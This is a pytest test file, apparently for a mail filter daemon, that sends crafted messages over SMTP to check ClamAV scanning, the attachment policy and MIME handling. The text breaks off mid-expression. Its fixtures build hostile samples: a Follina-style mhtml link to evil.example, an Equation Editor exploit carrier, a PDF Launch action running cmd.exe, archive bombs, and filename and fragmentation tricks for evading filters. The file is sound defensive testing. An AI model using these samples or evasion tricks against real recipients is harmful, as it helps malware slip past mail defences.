"""Content filters over SMTP against the real moatd: ClamAV (libclamav in
process, and clamd over INSTREAM), the attachment policy and the MIME
parse. The signature database is made here: an .ndb rule for the EICAR
string and the MD5 hashes (.hdb) of Debian's clamav-testfiles."""

import base64
import binascii
import hashlib
import gzip
import io
import os
import struct
import shutil
import smtplib
import sqlite3
import subprocess
import tempfile
import time
import zipfile
import zlib
import email.policy
from email.message import EmailMessage

import pytest

from moat_harness import open_db

EICAR = (b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!"
         b"$H+H*")
TESTFILES = "/usr/share/clamav-testfiles"
FILTERS = "mime clamav attachments"


def make_db(path, testfiles=True):
    os.makedirs(path, exist_ok=True)
    with open(os.path.join(path, "moat-test.ndb"), "w") as f:
        f.write("Moat-Test.EICAR:0:*:%s\n" % EICAR.hex())
    if testfiles and os.path.isdir(TESTFILES):
        with open(os.path.join(path, "moat-testfiles.hdb"), "w") as f:
            for name in sorted(os.listdir(TESTFILES)):
                with open(os.path.join(TESTFILES, name), "rb") as t:
                    data = t.read()
                f.write("%s:%d:Moat-Test.%s\n" %
                        (hashlib.md5(data).hexdigest(), len(data), name))
    os.chmod(path, 0o755)
    for n in os.listdir(path):
        os.chmod(os.path.join(path, n), 0o644)


@pytest.fixture
def avdb():
    top = tempfile.mkdtemp(prefix="moat-avdb-")
    os.chmod(top, 0o755)
    make_db(os.path.join(top, "db"))
    yield os.path.join(top, "db")
    shutil.rmtree(top, ignore_errors=True)


@pytest.fixture
def content(moat_factory, avdb):
    return moat_factory({"filters": FILTERS,
                         "filter.clamav.database_dir": avdb,
                         "filter.clamav.reload_interval": "1s"})


def mail(attachments=(), body="Hello, see attached.\n", subject="test"):
    m = EmailMessage()
    m["From"] = "sender@remote.example"
    m["To"] = "demo@example.test"
    m["Subject"] = subject
    m.set_content(body)
    for name, data, ctype in attachments:
        maintype, subtype = ctype.split("/", 1)
        m.add_attachment(data, maintype=maintype, subtype=subtype,
                         filename=name)
    return m


def send(moat, msg):
    """(code, text) of the answer to DATA."""
    data = (msg.as_bytes(policy=email.policy.SMTP)
            if hasattr(msg, "as_bytes") else msg)
    with smtplib.SMTP("127.0.0.1", moat.smtp_port, timeout=30) as c:
        c.ehlo("client.example")
        c.mail("sender@remote.example")
        c.rcpt("demo@example.test")
        code, text = c.data(data)
        return code, text.decode("utf-8", "replace")


def zip_of(files):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files:
            z.writestr(name, data)
    return out.getvalue()


def message_log(moat, count):
    """[(verdict, verdict_filter, [symbols])] in arrival order, once the
    message log holds count messages (it is written in the background)."""
    path = os.path.join(moat.data, "messagelog.db")
    deadline = time.time() + 15
    while True:
        out = []
        try:
            db = open_db(path)
            for mid, verdict, vf in db.execute(
                    "SELECT id, verdict, verdict_filter FROM messages "
                    "ORDER BY id"):
                syms = [r[0] for r in db.execute(
                    "SELECT name FROM message_symbols WHERE message_id = ?",
                    (mid,))]
                out.append((verdict, vf, syms))
            db.close()
        except sqlite3.OperationalError:
            pass
        if len(out) >= count or time.time() > deadline:
            return out
        time.sleep(0.05)


# --- antivirus -----------------------------------------------------------

def test_eicar_plain_zip_nested_rejected(content):
    plain = mail([("eicar.com", EICAR, "application/octet-stream")])
    zipped = mail([("eicar.zip", zip_of([("eicar.com", EICAR)]),
                    "application/zip")])
    inner = mail([("eicar.com", EICAR, "application/octet-stream")],
                 subject="inner")
    nested = mail()
    nested.add_attachment(inner)  # message/rfc822
    for msg in (plain, zipped, nested):
        code, text = send(content, msg)
        assert code == 554, text
        assert text.startswith("5.7.0 "), text
        assert "Moat-Test.EICAR" in text
    # A clean message passes and is delivered.
    code, text = send(content, mail([("notes.txt", b"harmless\n",
                                      "text/plain")]))
    assert code == 250, text
    assert len(content.wait_messages("demo@example.test", 1)) == 1
    log = message_log(content, 4)
    assert [v for v, _, _ in log][:3] == ["reject"] * 3
    assert "CLAMAV_VIRUS" in log[0][2]
    assert "TEST DATABASE" in content.log()


@pytest.mark.skipif(not os.path.isdir(TESTFILES),
                    reason="clamav-testfiles not installed")
def test_every_clamav_testfile_caught(content):
    """Each file of clamav-testfiles, attached to a MIME mail, is refused
    by the full content chain (ClamAV, or the attachment policy first for
    the executables; the next test runs ClamAV alone)."""
    names = sorted(os.listdir(TESTFILES))
    assert len(names) > 20
    passed = []
    for name in names:
        with open(os.path.join(TESTFILES, name), "rb") as f:
            data = f.read()
        code, text = send(content, mail([(name, data,
                                          "application/octet-stream")]))
        if code != 554:
            passed.append((name, code, text))
    assert passed == []


@pytest.mark.skipif(not os.path.isdir(TESTFILES),
                    reason="clamav-testfiles not installed")
def test_every_clamav_testfile_caught_by_clamav(moat_factory, avdb):
    moat = moat_factory({"filters": "mime clamav",
                         "filter.clamav.database_dir": avdb})
    names = sorted(os.listdir(TESTFILES))
    for name in names:
        with open(os.path.join(TESTFILES, name), "rb") as f:
            data = f.read()
        code, text = send(moat, mail([(name, data,
                                       "application/octet-stream")]))
        assert code == 554 and text.startswith("5.7.0 Virus found"), \
            (name, code, text)
    log = message_log(moat, len(names))
    assert len(log) == len(names)
    assert all("CLAMAV_VIRUS" in syms for _, _, syms in log)


def test_quarantine_action(moat_factory, avdb):
    moat = moat_factory({"filters": "clamav",
                         "filter.clamav.database_dir": avdb,
                         "filter.clamav.action": "quarantine"})
    code, text = send(moat, mail([("eicar.com", EICAR,
                                   "application/octet-stream")]))
    assert code == 250, text
    assert message_log(moat, 1)[0][:2] == ("quarantine", "clamav")


def test_encrypted_archive_symbol_and_reject(moat_factory, avdb):
    if shutil.which("zip") is None:
        pytest.skip("zip not installed")
    top = tempfile.mkdtemp(prefix="moat-zip-")
    try:
        with open(os.path.join(top, "a.txt"), "w") as f:
            f.write("secret but harmless\n")
        subprocess.run(["zip", "-q", "-P", "pw", "enc.zip", "a.txt"],
                       cwd=top, check=True)
        with open(os.path.join(top, "enc.zip"), "rb") as f:
            enc = f.read()
    finally:
        shutil.rmtree(top, ignore_errors=True)
    moat = moat_factory({"filters": "clamav",
                         "filter.clamav.database_dir": avdb})
    code, text = send(moat, mail([("enc.zip", enc, "application/zip")]))
    assert code == 250, text
    assert "CLAMAV_ENCRYPTED" in message_log(moat, 1)[0][2]
    moat2 = moat_factory({"filters": "clamav",
                          "filter.clamav.database_dir": avdb,
                          "filter.clamav.encrypted": "reject"})
    code, text = send(moat2, mail([("enc.zip", enc, "application/zip")]))
    assert code == 554 and "Encrypted" in text, text
    # the attachment policy: the archive, and its password in the message
    moat3 = moat_factory({"filters": "mime attachments"})
    for body in ("Invoice attached.", "Invoice attached, password: pw"):
        code, text = send(moat3, mail([("enc.zip", enc, "application/zip")],
                                      body=body))
        assert code == 250, text
    log = message_log(moat3, 2)
    assert "ATTACH_ENCRYPTED" in log[0][2]
    assert "ATTACH_ENCRYPTED_PASSWORD" not in log[0][2]
    assert {"ATTACH_ENCRYPTED", "ATTACH_ENCRYPTED_PASSWORD"} <= set(log[1][2])


def test_reload_without_losing_mail(content, avdb):
    """A database update while mail flows: every message gets an answer
    from the old or the new engine, none is refused for the reload."""
    novel = b"a brand new threat, only in the update\n"
    msg = mail([("new.bin", novel, "application/octet-stream")])
    code, _ = send(content, msg)
    assert code == 250
    with open(os.path.join(avdb, "update.hdb.tmp"), "w") as f:
        f.write("%s:%d:Moat-Test.Novel\n" %
                (hashlib.md5(novel).hexdigest(), len(novel)))
    os.chmod(os.path.join(avdb, "update.hdb.tmp"), 0o644)
    os.rename(os.path.join(avdb, "update.hdb.tmp"),
              os.path.join(avdb, "update.hdb"))  # as freshclam does
    deadline = time.time() + 20
    codes = []
    while time.time() < deadline:
        code, text = send(content, msg)
        codes.append(code)
        if code == 554:
            assert "Moat-Test.Novel" in text
            break
    assert codes[-1] == 554
    assert set(codes) <= {250, 554}, codes
    assert "database reloaded" in content.log()


@pytest.mark.skipif(not os.path.exists("/usr/sbin/clamd"),
                    reason="clamd not installed")
def test_clamd_mode(moat_factory, avdb):
    top = tempfile.mkdtemp(prefix="moat-clamd-")
    os.chmod(top, 0o755)
    sock = os.path.join(top, "clamd.sock")
    conf = os.path.join(top, "clamd.conf")
    with open(conf, "w") as f:
        f.write("Foreground yes\nLocalSocket %s\nLocalSocketMode 666\n"
                "DatabaseDirectory %s\nLogFile %s/clamd.log\n"
                "TemporaryDirectory %s\n" % (sock, avdb, top, top))
        if os.geteuid() == 0:
            f.write("User root\n")
    clamd = subprocess.Popen(["/usr/sbin/clamd", "-c", conf],
                             stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL)
    try:
        deadline = time.time() + 30
        while not os.path.exists(sock) and time.time() < deadline:
            assert clamd.poll() is None, "clamd exited"
            time.sleep(0.05)
        moat = moat_factory({"filters": FILTERS,
                             "filter.clamav.mode": "clamd",
                             "filter.clamav.clamd_address": sock})
        code, text = send(moat, mail([("eicar.com", EICAR,
                                       "application/octet-stream")]))
        assert code == 554 and "Moat-Test.EICAR" in text, text
        code, text = send(moat, mail())
        assert code == 250, text
    finally:
        clamd.terminate()
        clamd.wait(10)
        shutil.rmtree(top, ignore_errors=True)
    # clamd gone: the filter fails, on_error=tempfail answers 451.
    code, text = send(moat, mail())
    assert code == 451, text


# --- attachment policy -----------------------------------------------------

def ooxml(macro):
    files = [("[Content_Types].xml", b"<Types/>"),
             ("word/document.xml", b"<w:document/>")]
    if macro:
        files.append(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 fake vba"))
    return zip_of(files)


def test_attachment_policy(content):
    cases = [
        ("exe in zip", [("files.zip", zip_of([("readme.txt", b"hi\n"),
                                              ("setup.exe", b"MZ fake")]),
                         "application/zip")], 554, "setup.exe"),
        ("double extension", [("invoice.pdf.exe", b"MZ fake",
                               "application/octet-stream")], 554,
         "invoice.pdf.exe"),
        ("script", [("run.js", b"WScript.Echo(1)", "text/plain")], 554,
         "run.js"),
        ("macro docm", [("report.docm", ooxml(True),
                         "application/vnd.ms-word.document.macroEnabled.12")],
         554, "macros"),
        ("macro named docx", [("report.docx", ooxml(True),
                               "application/vnd.openxmlformats-"
                               "officedocument.wordprocessingml.document")],
         554, "macros"),
        ("clean docx", [("report.docx", ooxml(False),
                         "application/vnd.openxmlformats-officedocument."
                         "wordprocessingml.document")], 250, None),
        ("clean zip", [("photos.zip", zip_of([("a.txt", b"x")]),
                        "application/zip")], 250, None),
        ("clean pdf", [("report.pdf", b"%PDF-1.4\n%%EOF\n",
                        "application/pdf")], 250, None),
    ]
    for name, atts, want, needle in cases:
        code, text = send(content, mail(atts))
        assert code == want, (name, code, text)
        if want == 554:
            assert text.startswith("5.7.1 "), (name, text)
            assert needle in text, (name, text)
    log = message_log(content, len(cases))
    assert "ATTACH_ARCHIVE_EXT" in log[0][2]
    assert "ATTACH_DOUBLE_EXT" in log[1][2]
    assert "ATTACH_MACRO" in log[3][2]


DOCX = ("application/vnd.openxmlformats-officedocument."
        "wordprocessingml.document")


def rels(*relationships):
    return (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.'
            b'openxmlformats.org/package/2006/relationships">' +
            b"".join(b'<Relationship Id="rId%d" Type="http://schemas.'
                     b"openxmlformats.org/officeDocument/2006/relationships/"
                     b'%s" Target="%s" TargetMode="External"/>' % (i, t, g)
                     for i, (t, g) in enumerate(relationships)) +
            b"</Relationships>")


def test_office_links_and_macro_sheets(content):
    """What an Office document does when it opens, without VBA: an
    external link in an exploit scheme (Follina's ms-msdt:, mhtml: with
    !x-usc:) is refused, an Excel 4.0 macro sheet is refused as a macro,
    a template fetched from a server is delivered with its symbol, and the
    local template Word records is nothing."""
    follina = zip_of([("[Content_Types].xml", b"<Types/>"),
                      ("word/document.xml", b"<w:document/>"),
                      ("word/_rels/document.xml.rels", rels(
                          (b"hyperlink", b"https://www.example.com/"),
                          (b"oleObject", b"mhtml:https://evil.example/x!"
                           b"x-usc:https://evil.example/x")))])
    code, text = send(content, mail([("offer.docx", follina, DOCX)]))
    assert code == 554 and "offer.docx" in text and "mhtml:" in text, text
    xlm = zip_of([("[Content_Types].xml", b"<Types/>"),
                  ("xl/workbook.xml", b"<workbook/>"),
                  ("xl/macrosheets/sheet1.xml", b"<xm:macrosheet/>")])
    code, text = send(content, mail([("q3.xlsx", xlm,
                                      "application/vnd.ms-excel")]))
    assert code == 554 and "macros" in text, text
    for target in (b"https://templates.example/t.dotm",
                   b"file:///C:/Users/a/Templates/Normal.dotm"):
        doc = zip_of([("[Content_Types].xml", b"<Types/>"),
                      ("word/document.xml", b"<w:document/>"),
                      ("word/_rels/settings.xml.rels",
                       rels((b"attachedTemplate", target)))])
        code, text = send(content, mail([("memo.docx", doc, DOCX)]))
        assert code == 250, text
    log = message_log(content, 4)
    assert "ATTACH_EXPLOIT_LINK" in log[0][2], log
    assert "ATTACH_MACRO" in log[1][2], log
    assert "ATTACH_REMOTE_TEMPLATE" in log[2][2], log
    assert not [s for s in log[3][2] if s.startswith("ATTACH_")], log


def rtf_object(class_name, native, spaced=False):
    """An RTF document embedding one OLE1 object ([MS-OLEDS] 2.2.4) of
    class_name with native data, as Word writes it (hex in \\objdata);
    spaced: the hex broken by line breaks and a bookmark group, as
    exploit kits write it to pass simpler readers."""
    cls = class_name.encode() + b"\0"
    ole1 = (struct.pack("<II", 0x0501, 2) + struct.pack("<I", len(cls)) +
            cls + struct.pack("<III", 0, 0, len(native)) + native)
    hexed = ole1.hex().encode()
    if spaced:
        hexed = b"\r\n".join(hexed[i:i + 64]
                              for i in range(0, len(hexed), 64))
        hexed = hexed[:10] + b"{\\*\\bkmkstart ab}" + hexed[10:]
    return (b"{\\rtf1\\ansi{\\object\\objemb{\\*\\objclass " +
            class_name.encode() + b"}{\\*\\objdata " + hexed + b"}}}")


def package(name, data):
    """A Package object's native data (what Insert > Object > Create from
    file embeds): label, original path, temporary path, the file."""
    temp = ("C:\\Users\\a\\AppData\\Local\\Temp\\%s" % name).encode()
    return (b"\x02\x00" + name.encode() + b"\0" +
            ("C:\\Users\\a\\%s" % name).encode() + b"\0" +
            struct.pack("<II", 0x00030000, len(temp) + 1) + temp + b"\0" +
            struct.pack("<I", len(data)) + data)


def test_rtf_embedded_objects_are_opened(content):
    """The objects Word embeds in an RTF document are checked as what they
    hold: a .exe packaged in a .rtf (hex broken up the way exploit kits
    break it) is refused by name, an Equation Editor 3.0 object (the
    CVE-2017-11882 carrier) is refused, and a document with a packaged
    text file passes."""
    exe = rtf_object("Package", package("invoice.exe", b"MZ fake"),
                     spaced=True)
    code, text = send(content, mail([("report.rtf", exe,
                                      "application/rtf")]))
    assert code == 554 and "invoice.exe" in text, text
    eqn = rtf_object("Equation.3", b"\x1c\x00" + b"\x41" * 40)
    code, text = send(content, mail([("scan.doc", eqn,
                                      "application/msword")]))
    assert code == 554 and "Equation.3" in text, text
    notes = rtf_object("Package", package("notes.txt", b"meeting at 10"))
    code, text = send(content, mail([("minutes.rtf", notes,
                                      "application/rtf")]))
    assert code == 250, text
    log = message_log(content, 3)
    assert "ATTACH_ARCHIVE_EXT" in log[0][2], log
    assert "ATTACH_EXPLOIT_OBJECT" in log[1][2], log
    assert not [s for s in log[2][2] if s.startswith("ATTACH_")], log


def test_attached_messages_are_opened(content):
    """A forwarded message is opened as mail programs open it, whatever its
    wrapping: a .exe inside an .eml file, or inside a message/rfc822 part
    in base64 (which the parse keeps as one opaque part), is refused; a
    clean forwarded message passes."""
    inner = mail([("setup.exe", b"MZ fake", "application/octet-stream")])
    inner_bytes = inner.as_bytes(policy=email.policy.SMTP)
    code, text = send(content, mail([("fwd.eml", inner_bytes,
                                      "application/octet-stream")]))
    assert code == 554 and "setup.exe" in text, text
    wrapped = (RAW_HEAD + b"Content-Type: multipart/mixed; boundary=b\r\n"
               b"\r\n--b\r\nContent-Type: text/plain\r\n\r\nfyi\r\n--b\r\n"
               b"Content-Type: message/rfc822\r\n"
               b"Content-Transfer-Encoding: base64\r\n\r\n" +
               base64_lines(inner_bytes) + b"--b--\r\n")
    code, text = send(content, wrapped)
    assert code == 554 and "setup.exe" in text, text
    clean = mail(subject="minutes").as_bytes(policy=email.policy.SMTP)
    code, text = send(content, mail([("minutes.eml", clean,
                                      "application/octet-stream")]))
    assert code == 250, text


def pdf_with(objects):
    """A PDF of the given object bodies (numbered from 1)."""
    out = b"%PDF-1.7\n"
    for i, body in enumerate(objects, 1):
        out += b"%d 0 obj\n%s\nendobj\n" % (i, body)
    return out + b"trailer << /Root 1 0 R >>\n%%EOF\n"


def test_pdf_actions_and_embedded_files(content):
    """A PDF is read as an archive with actions: an embedded executable
    (compressed, under a harmless name) and a /Launch action are refused;
    JavaScript only scores; a PDF with neither passes."""
    exe = zlib.compress(pe_header())
    embedded = pdf_with([
        b"<< /Type /Catalog /Names << /EmbeddedFiles 2 0 R >> >>",
        b"<< /Names [(a) 3 0 R] >>",
        b"<< /Type /Filespec /F (invoice.txt) /EF << /F 4 0 R >> >>",
        b"<< /Type /EmbeddedFile /Filter /FlateDecode /Length %d >>\n"
        b"stream\r\n%s\r\nendstream" % (len(exe), exe)])
    launch = pdf_with([b"<< /Type /Catalog /OpenAction << /S /Launch "
                       b"/Win << /F (cmd.exe) /P (/c calc) >> >> >>"])
    script = pdf_with([b"<< /Type /Catalog /OpenAction << /S /JavaScript "
                       b"/JS (app.alert\\(1\\)) >> >>"])
    plain = pdf_with([b"<< /Type /Catalog /Pages 2 0 R >>",
                      b"<< /Type /Pages /Kids [] /Count 0 >>"])
    for name, data, want in (("statement.pdf", embedded, 554),
                             ("form.pdf", launch, 554),
                             ("form.pdf", script, 250),
                             ("report.pdf", plain, 250)):
        code, text = send(content, mail([(name, data, "application/pdf")]))
        assert code == want, (name, code, text)
    log = message_log(content, 4)
    assert "ATTACH_DETECTED_TYPE" in log[0][2], log
    assert "ATTACH_PDF_LAUNCH" in log[1][2], log
    assert "ATTACH_PDF_JAVASCRIPT" in log[2][2], log
    assert not [s for s in log[3][2] if s.startswith("ATTACH_")], log


def outlook_item(tmp, attachments):
    """An Outlook item (.msg) with the given (file name, data)
    attachments, built as [MS-OXMSG] lays it out with gsf createole."""
    top = os.path.join(tmp, "item")
    os.makedirs(top)
    with open(os.path.join(top, "__substg1.0_0037001F"), "wb") as f:
        f.write("Fwd".encode("utf-16-le"))
    entries = ["__substg1.0_0037001F"]
    for i, (name, data) in enumerate(attachments):
        storage = "__attach_version1.0_#%08X" % i
        os.makedirs(os.path.join(top, storage))
        with open(os.path.join(top, storage, "__substg1.0_3707001F"),
                  "wb") as f:
            f.write(name.encode("utf-16-le"))
        with open(os.path.join(top, storage, "__substg1.0_37010102"),
                  "wb") as f:
            f.write(data)
        entries.append(storage)
    out = os.path.join(tmp, "item.msg")
    subprocess.run(["gsf", "createole", out] + entries, cwd=top, check=True,
                   capture_output=True)
    with open(out, "rb") as f:
        return f.read()


def test_outlook_item_attachments(content, tmp_path):
    """An Outlook item attached to a message is opened like an archive: a
    .exe among its attachments, or a PE under a harmless name, is refused;
    an item with a text file passes."""
    if shutil.which("gsf") is None:
        pytest.skip("gsf (libgsf-bin) is not installed")
    bad = outlook_item(str(tmp_path / "a"), [("notes.txt", b"hello"),
                                             ("setup.exe", b"MZ fake")])
    disguised = outlook_item(str(tmp_path / "b"),
                             [("photo.jpg", pe_header())])
    clean = outlook_item(str(tmp_path / "c"), [("notes.txt", b"hello")])
    for data, want in ((bad, 554), (disguised, 554), (clean, 250)):
        code, text = send(content, mail([("fwd.msg", data,
                                          "application/vnd.ms-outlook")]))
        assert code == want, (code, text)


def test_office_embedded_packages_are_opened(content, tmp_path):
    """A file packaged as an object in a Word document (the
    word/embeddings/oleObject1.bin part of a .docx, an OLE2 file with a
    \\1Ole10Native stream, as Insert > Object > Create from file makes
    it) is checked by its name: a packaged .exe is refused."""
    if shutil.which("gsf") is None:
        pytest.skip("gsf (libgsf-bin) is not installed")
    top = tmp_path / "obj"
    top.mkdir()
    native = package("invoice.exe", b"MZ fake")
    (top / "\x01Ole10Native").write_bytes(struct.pack("<I", len(native)) +
                                          native)
    out = tmp_path / "oleObject1.bin"
    subprocess.run(["gsf", "createole", str(out), "\x01Ole10Native"],
                   cwd=str(top), check=True, capture_output=True)
    docx = zip_of([("[Content_Types].xml", b"<Types/>"),
                   ("word/document.xml", b"<w:document/>"),
                   ("word/embeddings/oleObject1.bin", out.read_bytes())])
    code, text = send(content, mail([("offer.docx", docx, DOCX)]))
    assert code == 554 and "invoice.exe" in text, text


def legacy_workbook(tmp, sheet_type):
    """A .xls (OLE2, BIFF8) whose Workbook stream is BOF, one BOUNDSHEET
    of the given sheet type (1: an Excel 4.0 macro sheet) and EOF."""
    os.makedirs(tmp)
    with open(os.path.join(tmp, "Workbook"), "wb") as f:
        f.write(b"\x09\x08\x10\x00\x00\x06\x10\x00" + bytes(12) +
                b"\x85\x00\x09\x00" + bytes(5) + bytes([sheet_type]) +
                b"\x01\x00M" + b"\x0a\x00\x00\x00")
    out = os.path.join(tmp, "book.xls")
    subprocess.run(["gsf", "createole", out, "Workbook"], cwd=tmp,
                   check=True, capture_output=True)
    with open(out, "rb") as f:
        return f.read()


def test_excel4_macro_sheet_in_xls(content, tmp_path):
    """A legacy workbook with an Excel 4.0 macro sheet (the XLM macros of
    Emotet's and Qakbot's mail) is refused as a document with macros; the
    same workbook with a worksheet passes."""
    if shutil.which("gsf") is None:
        pytest.skip("gsf (libgsf-bin) is not installed")
    for sheet_type, want in ((1, 554), (0, 250)):
        data = legacy_workbook(str(tmp_path / str(sheet_type)), sheet_type)
        code, text = send(content, mail([("q3.xls", data,
                                          "application/vnd.ms-excel")]))
        assert code == want, (sheet_type, code, text)
        if want == 554:
            assert "macros" in text, text


def test_attachment_quarantine_and_custom_list(moat_factory):
    moat = moat_factory({"filters": "attachments",
                         "filter.attachments.extensions": "xyz",
                         "filter.attachments.action": "quarantine"})
    code, _ = send(moat, mail([("a.xyz", b"x", "application/octet-stream")]))
    assert code == 250
    code, _ = send(moat, mail([("a.exe", b"x", "application/octet-stream")]))
    assert code == 250
    log = message_log(moat, 2)
    assert log[0][:2] == ("quarantine", "attachments")
    assert log[1][0] != "quarantine"


# --- MIME limits -------------------------------------------------------------

def test_mime_limit_symbols(moat_factory):
    moat = moat_factory({"filters": "mime attachments",
                         "filter.mime.max_depth": "3"})
    parts = ["--b0\r\nContent-Type: multipart/mixed; boundary=b%d\r\n\r\n" % i
             for i in range(1, 8)]
    body = ("From: a@remote.example\r\nSubject: deep\r\nMIME-Version: 1.0\r\n"
            "Content-Type: multipart/mixed; boundary=b0\r\n\r\n" +
            "".join(p.replace("--b0", "--b%d" % i)
                    for i, p in enumerate(parts)) +
            "--b7\r\nContent-Type: text/plain\r\n\r\ndeep\r\n" +
            "".join("--b%d--\r\n" % i for i in range(7, -1, -1)))
    code, text = send(moat, body.encode())
    assert code == 250, text
    syms = message_log(moat, 1)[0][2]
    assert "MIME_TOO_DEEP" in syms


# --- archive bombs -----------------------------------------------------------

def nested_zip(depth, fanout, leaf):
    """42.zip's shape: each level holds fanout copies of the level below."""
    data = zip_of([("leaf.txt", leaf)])
    for level in range(depth):
        data = zip_of([("l%d_%d.zip" % (level, i), data)
                       for i in range(fanout)])
    return data


def test_archive_bombs_are_bounded(content):
    """A zip that inflates to 256 MB, a 42.zip-shaped nest (6 levels of 16,
    16.7 million leaves) and a zip of 20,000 members: each gets an answer
    (the limits show as CLAMAV_PARTIAL / ATTACH_ARCHIVE_LIMIT /
    ATTACH_UNCHECKED symbols, not as a stall or a crash; the nest is
    quarantined), and the daemon then delivers ordinary mail."""
    zeros = zip_of([("zeros.bin", b"\0" * (256 * 1024 * 1024))])
    assert len(zeros) < 1024 * 1024
    bombs = [("inflate.zip", zeros),
             ("nest.zip", nested_zip(6, 16, b"A" * 4096)),
             ("many.zip", zip_of([("f%d.txt" % i, b"x")
                                  for i in range(20000)]))]
    for name, data in bombs:
        code, text = send(content, mail([(name, data,
                                          "application/zip")]))
        assert code in (250, 554), (name, code, text)
    code, _ = send(content, mail(subject="after the bombs"))
    assert code == 250
    assert len(content.wait_messages("demo@example.test", 1)) >= 1
    log = message_log(content, 4)
    assert len(log) == 4
    syms = [s for _, _, ss in log[:3] for s in ss]
    assert "CLAMAV_PARTIAL" in syms or "ATTACH_ARCHIVE_LIMIT" in syms, log
    # What the nest hides past max_archive_depth is not passed as clean.
    assert log[1][0] == "quarantine" and "ATTACH_UNCHECKED" in log[1][2], log


def test_blocked_file_after_many_findings_still_blocks(content):
    """Findings beyond the report's capacity still decide: a .exe behind
    an archive nest that yields more limit findings than are listed is
    refused, not let through."""
    nest = nested_zip(3, 40, b"A")
    code, text = send(content, mail([
        ("nest.zip", nest, "application/zip"),
        ("payload.exe", b"MZ fake", "application/octet-stream")]))
    assert code == 554, text
    assert "payload.exe" in text or "not allowed" in text, text


def test_unchecked_content_is_quarantined(moat_factory):
    """What the attachment policy cannot look into is not passed as clean:
    a .exe four zips deep (one level past max_archive_depth) and parts
    past the MIME depth limit are quarantined (ATTACH_UNCHECKED); with
    unchecked_action = reject they get 554; a .exe behind 1,000 padding
    members and a gzip-compressed executable are refused like any
    blocked file."""
    moat = moat_factory({"filters": "mime attachments",
                         "filter.mime.max_depth": "5"})
    deep = zip_of([("setup.exe", pe_header())])
    for level in range(3):
        deep = zip_of([("inner%d.zip" % level, deep)])
    code, text = send(moat, mail([("docs.zip", deep, "application/zip")]))
    assert code == 250, text
    part = (b"Content-Type: application/octet-stream\r\n"
            b'Content-Disposition: attachment; filename="a.txt"\r\n\r\nx\r\n')
    for level in range(8):
        part = (b"Content-Type: message/rfc822\r\n\r\nSubject: n%d\r\n"
                b"MIME-Version: 1.0\r\n" % level + part)
    code, text = send(moat, RAW_HEAD + part)
    assert code == 250, text
    padded = zip_of([("f%d.txt" % i, b"x") for i in range(1000)] +
                    [("run.exe", b"MZ")])
    code, text = send(moat, mail([("padded.zip", padded, "application/zip")]))
    assert code == 554 and "run.exe" in text, text
    code, text = send(moat, mail([("report.gz", gzip.compress(pe_header()),
                                   "application/gzip")]))
    assert code == 554 and "report" in text, text
    log = message_log(moat, 2)
    for verdict, vf, syms in log[:2]:
        assert (verdict, vf) == ("quarantine", "attachments"), log
        assert "ATTACH_UNCHECKED" in syms, log
    strict = moat_factory({"filters": "mime attachments",
                           "filter.attachments.unchecked_action": "reject"})
    code, text = send(strict, mail([("docs.zip", deep, "application/zip")]))
    assert code == 554, text
    assert text.startswith("5.7.1 ") and "could not be checked" in text, text


RAW_HEAD = (b"From: sender@remote.example\r\nTo: demo@example.test\r\n"
            b"Subject: evasion\r\nMIME-Version: 1.0\r\n")


def multipart(part):
    return (RAW_HEAD + b'Content-Type: multipart/mixed; boundary="b"\r\n'
            b"\r\n--b\r\nContent-Type: text/plain\r\n\r\nhi\r\n--b\r\n" +
            part + b"\r\n--b--\r\n")


def exe_part(headers):
    return headers + b"Content-Transfer-Encoding: base64\r\n\r\nTVo=\r\n"


def test_attachment_name_evasions(content):
    """The names mail programs may show or save, however they are
    written: Content-Type's name when Content-Disposition says another,
    RFC 2231 continuations, encoded words, a forwarded message's part, a
    uuencoded file in a text body (its name, and its bytes decoded: an
    executable's type, a zip's members), and no name at all (libmagic); a
    message/partial fragment, blocked by type; an NTFS stream name, zips
    behind a prefix or after a first archive, the files of a TNEF stream
    (winmail.dat); and parts mail programs read two ways (the filters
    must not check one reading while the client shows the other)."""
    cases = [
        ("name differs from filename", multipart(exe_part(
            b'Content-Type: application/octet-stream; name="setup.exe"\r\n'
            b'Content-Disposition: attachment; filename="readme.txt"\r\n')),
         "setup.exe"),
        ("RFC 2231 continuation", multipart(exe_part(
            b"Content-Type: application/octet-stream\r\n"
            b'Content-Disposition: attachment; filename*0="invoice.pdf.e";'
            b' filename*1="xe"\r\n')), "invoice.pdf.exe"),
        ("encoded word", multipart(exe_part(
            b"Content-Type: application/octet-stream\r\nContent-Disposition:"
            b' attachment; filename="=?utf-8?B?c2V0dXAuZXhl?="\r\n')),
         "setup.exe"),
        ("forwarded message", multipart(
            b"Content-Type: message/rfc822\r\n\r\n" + multipart(exe_part(
                b"Content-Type: application/octet-stream\r\n"
                b'Content-Disposition: attachment; filename="setup.exe"'
                b"\r\n")))[:-2], "setup.exe"),
        ("uuencoded in the body", RAW_HEAD +
         b"Content-Type: text/plain\r\n\r\nsee attached\r\n\r\n"
         b"begin 644 setup.exe\r\n\"35H`\r\n`\r\nend\r\n", "setup.exe"),
        # decoded and checked as attachments are: the client shows
        # "scan.bin", a program; "docs.zip" holds setup.exe
        ("uuencoded executable", RAW_HEAD +
         b"Content-Type: text/plain\r\n\r\nsee attached\r\n\r\n"
         b"begin 644 scan.bin\r\n" + uuencode_lines(pe_header()) +
         b"end\r\n", "scan.bin"),
        ("uuencoded zip", RAW_HEAD +
         b"Content-Type: text/plain\r\n\r\nsee attached\r\n\r\n"
         b"begin 644 docs.zip\r\n" +
         uuencode_lines(zip_of([("setup.exe", b"MZ")])) + b"end\r\n",
         "setup.exe"),
        ("no name, an executable", multipart(
            b"Content-Type: application/octet-stream\r\n"
            b"Content-Disposition: attachment\r\n"
            b"Content-Transfer-Encoding: base64\r\n\r\n" +
            base64_lines(pe_header())), "(unnamed)"),
        # RFC 2046 fragments: each one scans clean, the client would
        # reassemble the virus
        ("message/partial", RAW_HEAD.replace(
            b"MIME-Version: 1.0\r\n",
            b"MIME-Version: 1.0\r\nContent-Type: message/partial; "
            b'id="f@remote.example"; number=1; total=2\r\n') +
         b"\r\nContent-Type: application/octet-stream\r\n\r\n" +
         EICAR[:30] + b"\r\n", "message/partial"),
        ("NTFS stream", multipart(exe_part(
